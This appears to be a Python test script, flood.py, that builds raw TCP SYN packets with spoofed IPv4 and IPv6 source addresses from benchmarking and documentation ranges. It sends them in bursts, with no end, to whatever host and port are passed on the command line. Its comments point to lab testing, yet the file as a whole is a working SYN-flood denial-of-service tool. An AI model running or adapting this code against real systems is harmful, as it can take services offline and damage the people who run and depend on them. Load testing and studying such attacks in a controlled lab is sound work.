# SPDX-License-Identifier: MIT
"""Sends SYNs under made-up source addresses until it is ended, and tells when the first thousands are on their way.

flood.py DESTINATION PORT SEED
"""
import random
import socket
import struct
import sys
import time

SYNS = 4096
BURST = 32


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, target, port, rng):
    header = [rng.randrange(1024, 65536), port, rng.getrandbits(32), 0, 6 << 12 | 2, 65535, 0, 0, 2 << 24 | 4 << 16 | 1460]
    packed = struct.pack("!HHIIHHHHI", *header)
    pseudo = source + target + struct.pack("!II", len(packed), 6)
    header[6] = checksum(pseudo + packed)
    return struct.pack("!HHIIHHHHI", *header)


def packet4(target, port, rng):
    # 198.18.0.0/15 is for tests like this one (RFC 2544), and no route leads back there.
    source = bytes((198, 18 + rng.getrandbits(1), rng.getrandbits(8), rng.getrandbits(8)))
    segment = syn(source, target, port, rng)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0, source, target)
    return head + segment


def packet6(target, port, rng):
    source = bytes((0x20, 0x01, 0x0D, 0xB8)) + rng.randbytes(12)
    segment = syn(source, target, port, rng)
    return struct.pack("!IHBB16s16s", 6 << 28, len(segment), 6, 64, source, target) + segment


def main(destination, port, seed):
    family = socket.AF_INET6 if ":" in destination else socket.AF_INET
    target = socket.inet_pton(family, destination)
    make = packet6 if family == socket.AF_INET6 else packet4
    rng = random.Random(seed)
    packets = [make(target, int(port), rng) for _ in range(SYNS)]
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        told = False
        while True:
            for start in range(0, SYNS, BURST):
                for packet in packets[start : start + BURST]:
                    sock.sendto(packet, (destination, 0))
                # So that the real client is not lost in the queue of the interface.
                time.sleep(0.002)
            if not told:
                print("flooding", flush=True)
                told = True


main(*sys.argv[1:])
